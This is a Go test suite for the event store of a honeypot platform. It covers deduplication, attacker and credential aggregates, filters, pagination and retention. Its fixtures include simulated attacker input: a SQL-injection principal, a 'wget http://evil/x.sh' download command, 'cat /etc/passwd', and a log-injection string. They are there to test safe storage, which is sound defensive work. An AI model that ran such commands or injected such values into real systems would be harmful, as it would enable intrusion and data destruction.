package storetest

import (
	"encoding/json"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/store"
)

// base is the time of the suite's first event.
var base = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// severity is the catalogue's severity of the types the fixtures use (the
// store takes what the event says; the catalogue is the services').
var severity = map[string]int{
	"decky.lifecycle.started": event.Info,
	"ftp.login.failed":        event.Medium,
	"http.request.received":   event.Low,
	"mysql.login.failed":      event.Medium,
	"ssh.command.input":       event.High,
	"ssh.login.failed":        event.Medium,
	"ssh.login.success":       event.High,
	"ssh.session.open":        event.Info,
	"telnet.command.input":    event.High,
}

// ev builds an event at base+sec seconds. ids are made in call order, so
// callers that want id order to follow time build events in time order.
func ev(sec int, typ, decky, ip string, cred *event.Credential) event.Event {
	e := event.Event{Schema: event.SchemaVersion, ID: event.NewID(), Time: base.Add(time.Duration(sec) * time.Second),
		Type: typ, Severity: severity[typ], Topology: "topo-1", Host: "host-1", Decky: decky,
		Service: service(typ), Session: fmt.Sprint("sess-", sec%7), Transport: "tcp",
		Dst: &event.Endpoint{IP: "192.0.2.10", Port: 22}, Fields: map[string]any{"n": float64(sec)}}
	if ip != "" {
		e.Src = &event.Endpoint{IP: ip, Port: 40000 + sec}
	}
	if cred != nil {
		e.Credential = cred
		e.Outcome = "failure"
	}
	return e
}

func service(typ string) string {
	for i := range typ {
		if typ[i] == '.' {
			return typ[:i]
		}
	}
	return typ
}

func pw(user, secret string) *event.Credential {
	return event.NewCredential("plaintext", "password", user, []byte(secret), true)
}

func insert(t *testing.T, s store.Store, events []event.Event, want int) {
	t.Helper()
	n, err := s.InsertEvents(ctx(t), events)
	must(t, err)
	if n != want {
		t.Fatalf("InsertEvents stored %d new events, want %d", n, want)
	}
}

// snapshot is every aggregate, for before/after comparisons.
func snapshot(t *testing.T, s store.Store) string {
	t.Helper()
	a, err := s.ListAttackers(ctx(t), store.AttackerFilter{Limit: 1000})
	must(t, err)
	c, err := s.ListCredentials(ctx(t), store.CredentialFilter{Limit: 1000})
	must(t, err)
	b, _ := json.Marshal(struct {
		A []store.Attacker
		C []store.Credential
	}{a, c})
	return string(b)
}

func ids(events []event.Event) []string {
	out := make([]string, len(events))
	for i, e := range events {
		out[i] = e.ID
	}
	return out
}

// newestFirst returns the ids of events in the order ListEvents pages them.
func newestFirst(events []event.Event) []string {
	out := ids(events)
	slices.Sort(out)
	slices.Reverse(out)
	return out
}

func batch(n int, offset int) []event.Event {
	var out []event.Event
	for i := range n {
		sec := offset + i
		switch i % 4 {
		case 0:
			out = append(out, ev(sec, "ssh.login.failed", fmt.Sprint("decky-", i%3), fmt.Sprint("198.51.100.", i%5), pw("root", fmt.Sprint("pw", i%6))))
		case 1:
			out = append(out, ev(sec, "ssh.command.input", fmt.Sprint("decky-", i%3), fmt.Sprint("198.51.100.", i%5), nil))
		case 2:
			out = append(out, ev(sec, "ssh.session.open", fmt.Sprint("decky-", i%3), fmt.Sprint("198.51.100.", i%5), nil))
		default:
			out = append(out, ev(sec, "decky.lifecycle.started", "decky-0", "", nil))
		}
	}
	return out
}

func testInsertIdempotent(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	b := batch(40, 0)
	insert(t, s, b, 40)
	want := snapshot(t, s)
	insert(t, s, b, 0)
	if got := snapshot(t, s); got != want {
		t.Fatalf("replaying a batch changed the aggregates:\n got %s\nwant %s", got, want)
	}
	// Duplicates inside one batch count once.
	dup := batch(4, 100)
	insert(t, s, append(dup, dup...), 4)
	// A batch half old, half new adds exactly the new half.
	more := batch(10, 200)
	insert(t, s, append(slices.Clone(b[:10]), more...), 10)
	n, err := s.CountEvents(c, store.EventFilter{})
	must(t, err)
	if n != 54 {
		t.Fatalf("CountEvents = %d, want 54", n)
	}
	insert(t, s, nil, 0)
	if _, err := s.InsertEvents(c, []event.Event{{Type: "conn.open"}}); err == nil {
		t.Fatal("InsertEvents accepted an event without an id")
	}
}

func testInsertRace(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	b := batch(200, 0)
	counts := make([]int, 8)
	errs := race(8, func(i int) error {
		// Each racer sends the batch in its own order.
		mine := slices.Clone(b)
		if i%2 == 1 {
			slices.Reverse(mine)
		}
		var err error
		counts[i], err = s.InsertEvents(c, mine)
		return err
	})
	total := 0
	for i, err := range errs {
		must(t, err)
		total += counts[i]
	}
	if total != len(b) {
		t.Fatalf("racing inserts stored %d new events in all, want %d (%v)", total, len(b), counts)
	}
	ref := 0
	for _, e := range b {
		if e.Src != nil && e.Src.IP == "198.51.100.0" {
			ref++
		}
	}
	a, err := s.Attacker(c, "198.51.100.0")
	must(t, err)
	if a.Events != int64(ref) {
		t.Fatalf("attacker counted %d events after racing inserts, want %d", a.Events, ref)
	}
}

func testAggregates(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	const ip1, ip2 = "203.0.113.1", "203.0.113.2"
	rootpw := pw("root", "toor")
	events := []event.Event{
		ev(10, "ssh.login.failed", "web", ip1, rootpw),
		ev(20, "ssh.login.failed", "db", ip1, pw("root", "toor")),
		ev(30, "ssh.login.success", "web", ip2, pw("root", "toor")),
		ev(40, "ssh.command.input", "web", ip1, nil),
		ev(50, "telnet.command.input", "db", ip1, nil),
		ev(60, "ssh.session.open", "web", ip1, nil),
		ev(70, "ftp.login.failed", "files", ip2, pw("anonymous", "a@b")),
		ev(80, "decky.lifecycle.started", "web", "", nil),
	}
	hashed := &event.Credential{Kind: "mysql_native", Method: "password", Principal: "sa", SecretB64: "AQID",
		SecretSHA256: "0a1b", CrackFormat: "hashcat", CrackMode: 11200, CrackLine: "$mysqlna$abc*def"}
	events = append(events, ev(90, "mysql.login.failed", "db", ip2, hashed))
	// Out of order delivery: an earlier event arrives in a later batch.
	late := ev(5, "ssh.session.open", "files", ip1, nil)
	insert(t, s, events, len(events))
	insert(t, s, []event.Event{late}, 1)

	tests := []struct {
		ip   string
		want store.Attacker
	}{
		{ip1, store.Attacker{IP: ip1, FirstSeen: base.Add(5 * time.Second), LastSeen: base.Add(60 * time.Second),
			Events: 6, Deckies: []string{"db", "files", "web"}, Credentials: 2, Commands: 2, Techniques: []store.TechniqueCount{}, Score: 19}},
		{ip2, store.Attacker{IP: ip2, FirstSeen: base.Add(30 * time.Second), LastSeen: base.Add(90 * time.Second),
			Events: 3, Deckies: []string{"db", "files", "web"}, Credentials: 3, Commands: 0, Techniques: []store.TechniqueCount{}, Score: 18}},
	}
	for _, tc := range tests {
		t.Run(tc.ip, func(t *testing.T) {
			got, err := s.Attacker(c, tc.ip)
			must(t, err)
			if !equalJSON(got, tc.want) {
				t.Fatalf("Attacker(%s) = %+v, want %+v", tc.ip, *got, tc.want)
			}
		})
	}
	_, err := s.Attacker(c, "192.0.2.99")
	wantErr(t, err, store.ErrNotFound, "Attacker(unknown)")

	list, err := s.ListAttackers(c, store.AttackerFilter{})
	must(t, err)
	if len(list) != 2 || list[0].IP != ip2 || list[1].IP != ip1 {
		t.Fatalf("ListAttackers (most recent first) = %+v", list)
	}
	if list, _ = s.ListAttackers(c, store.AttackerFilter{Limit: 1}); len(list) != 1 {
		t.Fatalf("ListAttackers(1) returned %d", len(list))
	}

	creds, err := s.ListCredentials(c, store.CredentialFilter{Limit: 0})
	must(t, err)
	byPrincipal := map[string]store.Credential{}
	for _, cr := range creds {
		byPrincipal[cr.Principal] = cr
	}
	if len(creds) != 3 {
		t.Fatalf("ListCredentials returned %d, want 3: %+v", len(creds), creds)
	}
	root := byPrincipal["root"]
	wantRoot := store.Credential{Kind: "plaintext", Principal: "root", SecretSHA: rootpw.SecretSHA256, SecretB64: rootpw.SecretB64,
		Count: 3, Deckies: []string{"db", "web"}, Sources: []string{ip1, ip2}, FirstSeen: base.Add(10 * time.Second), LastSeen: base.Add(30 * time.Second)}
	if !equalJSON(root, wantRoot) {
		t.Fatalf("root credential = %+v, want %+v", root, wantRoot)
	}
	if sa := byPrincipal["sa"]; sa.CrackLine != hashed.CrackLine || sa.Count != 1 || sa.Kind != "mysql_native" {
		t.Fatalf("hashed credential = %+v", sa)
	}
	if creds[0].Principal != "sa" {
		t.Fatalf("ListCredentials not most recent first: %+v", creds)
	}
	if creds, _ = s.ListCredentials(c, store.CredentialFilter{Limit: 2}); len(creds) != 2 {
		t.Fatalf("ListCredentials(2) returned %d", len(creds))
	}
	// Attacker-controlled principals that are hostile to SQL or to text
	// columns are stored, and the same credential is counted once per event.
	evil := pw("x'; DROP TABLE users; --\x00\xff%_\\", "p")
	insert(t, s, []event.Event{ev(100, "ssh.login.failed", "web", ip1, evil), ev(101, "ssh.login.failed", "web", ip1, evil)}, 2)
	creds, _ = s.ListCredentials(c, store.CredentialFilter{Limit: 0})
	if len(creds) != 4 || creds[0].Count != 2 {
		t.Fatalf("hostile principal: %+v", creds)
	}
}

func equalJSON(a, b any) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return string(x) == string(y)
}

func testEventFilters(t *testing.T, open Opener) {
	s := open(t)
	const ip1, ip2 = "198.51.100.7", "198.51.100.8"
	all := []event.Event{
		ev(0, "ssh.login.failed", "web", ip1, pw("root", "100%_sure")),
		ev(10, "ssh.command.input", "web", ip1, nil),
		ev(20, "ssh.command.input", "db", ip2, nil),
		ev(30, "http.request.received", "web", ip2, nil),
		ev(40, "ftp.login.failed", "files", ip1, pw("Admin", `quote"back\slash`)),
		ev(50, "decky.lifecycle.started", "db", "", nil),
	}
	all[1].Fields = map[string]any{"line": "cat /etc/passwd"}
	all[2].Fields = map[string]any{"line": "wget http://evil/x.sh <script>"}
	all[3].Fields = map[string]any{"path": "/admin_panel", "ua": "curl"}
	insert(t, s, all, len(all))
	pick := func(idx ...int) []event.Event {
		var out []event.Event
		for _, i := range idx {
			out = append(out, all[i])
		}
		return out
	}
	tests := []struct {
		name string
		f    store.EventFilter
		want []event.Event
	}{
		{"everything", store.EventFilter{}, all},
		{"one type", store.EventFilter{Types: []string{"ssh.command.input"}}, pick(1, 2)},
		{"several types", store.EventFilter{Types: []string{"ssh.login.failed", "ftp.login.failed"}}, pick(0, 4)},
		{"unknown type", store.EventFilter{Types: []string{"nope"}}, nil},
		{"decky", store.EventFilter{Decky: "db"}, pick(2, 5)},
		{"service", store.EventFilter{Service: "ssh"}, pick(0, 1, 2)},
		{"src ip", store.EventFilter{SrcIP: ip2}, pick(2, 3)},
		{"text", store.EventFilter{Text: "passwd"}, pick(1)},
		{"text is case-insensitive", store.EventFilter{Text: "ADMIN"}, pick(3, 4)},
		{"text percent and underscore are literal", store.EventFilter{Text: "100%_"}, pick(0)},
		{"text underscore is not a wildcard", store.EventFilter{Text: "admin_p"}, pick(3)},
		{"text percent alone", store.EventFilter{Text: "%"}, pick(0)},
		{"text quote and backslash", store.EventFilter{Text: `quote"back\slash`}, pick(4)},
		{"text html is not escaped", store.EventFilter{Text: "<script>"}, pick(2)},
		{"text no match", store.EventFilter{Text: "zzz"}, nil},
		{"since inclusive", store.EventFilter{Since: base.Add(40 * time.Second)}, pick(4, 5)},
		{"until exclusive", store.EventFilter{Until: base.Add(10 * time.Second)}, pick(0)},
		{"window", store.EventFilter{Since: base.Add(10 * time.Second), Until: base.Add(31 * time.Second)}, pick(1, 2, 3)},
		{"after cursor", store.EventFilter{After: all[2].ID}, pick(0, 1)},
		{"combined", store.EventFilter{Types: []string{"ssh.command.input", "http.request.received"}, Decky: "web", SrcIP: ip1}, pick(1)},
		{"limit", store.EventFilter{Limit: 2}, pick(4, 5)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := s.ListEvents(ctx(t), tc.f)
			must(t, err)
			want := newestFirst(tc.want)
			if !slices.Equal(ids(got), want) {
				t.Fatalf("ListEvents(%+v) = %v, want %v", tc.f, ids(got), want)
			}
			n, err := s.CountEvents(ctx(t), tc.f)
			must(t, err)
			wantN := int64(len(tc.want))
			if tc.f.Limit != 0 {
				wantN = int64(len(all)) // the count ignores the page size
			}
			if n != wantN {
				t.Fatalf("CountEvents(%+v) = %d, want %d", tc.f, n, wantN)
			}
		})
	}
}

func testEventPagination(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	all := batch(1100, 0)
	for i := 0; i < len(all); i += 500 {
		insert(t, s, all[i:min(i+500, len(all))], min(500, len(all)-i))
	}
	want := newestFirst(all)
	tests := []struct {
		name  string
		limit int
		pages []int
	}{
		{"default page is 100", 0, []int{100, 100}},
		{"pages of 250", 250, []int{250, 250, 250, 250, 100, 0}},
		{"cap is 1000", 5000, []int{1000, 100, 0}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			after := ""
			for i, size := range tc.pages {
				page, err := s.ListEvents(c, store.EventFilter{After: after, Limit: tc.limit})
				must(t, err)
				if len(page) != size {
					t.Fatalf("page %d has %d events, want %d", i, len(page), size)
				}
				got = append(got, ids(page)...)
				if len(page) > 0 {
					after = page[len(page)-1].ID
				}
			}
			if !slices.Equal(got, want[:len(got)]) {
				t.Fatal("pages are not the events newest first, without gap or overlap")
			}
		})
	}
}

func testEventRoundTrip(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	e := ev(1, "ssh.login.failed", "web", "2001:db8::1", pw("root\n<134>1 fake", "s\x00\xffecret"))
	e.Seq = 3
	e.Outcome = "failure"
	e.Truncated = []string{"fields.blob"}
	e.Fields = map[string]any{"client": "SSH-2.0-Go", "list": []any{"a", float64(2)}, "nested": map[string]any{"ok": true}}
	insert(t, s, []event.Event{e}, 1)
	got, err := s.ListEvents(c, store.EventFilter{})
	must(t, err)
	if len(got) != 1 {
		t.Fatalf("got %d events", len(got))
	}
	want, _ := event.JSONLine(&e)
	back, _ := event.JSONLine(&got[0])
	if string(want) != string(back) {
		t.Fatalf("event did not round-trip:\n got %s\nwant %s", back, want)
	}
}

func testRetention(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	all := batch(100, 0) // base+0s .. base+99s
	insert(t, s, all, 100)
	aggregates := snapshot(t, s)
	n, err := s.DeleteEventsBefore(c, base.Add(60*time.Second))
	must(t, err)
	if n != 60 {
		t.Fatalf("DeleteEventsBefore removed %d, want 60", n)
	}
	left, err := s.ListEvents(c, store.EventFilter{Limit: 1000})
	must(t, err)
	if !slices.Equal(ids(left), newestFirst(all[60:])) {
		t.Fatal("retention removed the wrong events")
	}
	if snapshot(t, s) != aggregates {
		t.Fatal("retention changed the aggregates")
	}
	n, _ = s.DeleteEventsBefore(c, base.Add(60*time.Second))
	if n != 0 {
		t.Fatalf("second DeleteEventsBefore removed %d", n)
	}
	cnt, _ := s.CountEvents(c, store.EventFilter{})
	if cnt != 40 {
		t.Fatalf("CountEvents after retention = %d", cnt)
	}
}

func testReopen(t *testing.T, open Opener) {
	s := open(t)
	c := ctx(t)
	first := batch(60, 0)
	insert(t, s, first, 60)
	must(t, s.CreateUser(c, &store.User{Name: "keep", Role: store.Admin, PasswordHash: "h"}))
	tp := newTopology(t, s, "keep")
	must(t, s.Transition(c, tp.ID, store.Pending, store.Deploying, "before restart"))
	before := snapshot(t, s)
	must(t, s.Close())

	s = open(t)
	if got := snapshot(t, s); got != before {
		t.Fatalf("aggregates changed across reopen:\n got %s\nwant %s", got, before)
	}
	insert(t, s, first, 0) // an agent replaying after a master restart
	if got := snapshot(t, s); got != before {
		t.Fatal("replay after reopen changed the aggregates")
	}
	if _, err := s.UserByName(c, "keep"); err != nil {
		t.Fatal(err)
	}
	got, err := s.Topology(c, tp.ID)
	must(t, err)
	if got.Status != store.Deploying || got.Version != 2 {
		t.Fatalf("topology after reopen: %+v", got)
	}
	// New events keep counting up from the stored values.
	ip := "198.51.100.0"
	a0, err := s.Attacker(c, ip)
	must(t, err)
	more := []event.Event{ev(1000, "ssh.command.input", "decky-9", ip, nil)}
	insert(t, s, more, 1)
	a1, _ := s.Attacker(c, ip)
	if a1.Events != a0.Events+1 || a1.Commands != a0.Commands+1 || !slices.Contains(a1.Deckies, "decky-9") || !a1.LastSeen.Equal(base.Add(1000*time.Second)) {
		t.Fatalf("attacker after reopen: %+v (before %+v)", a1, a0)
	}
}
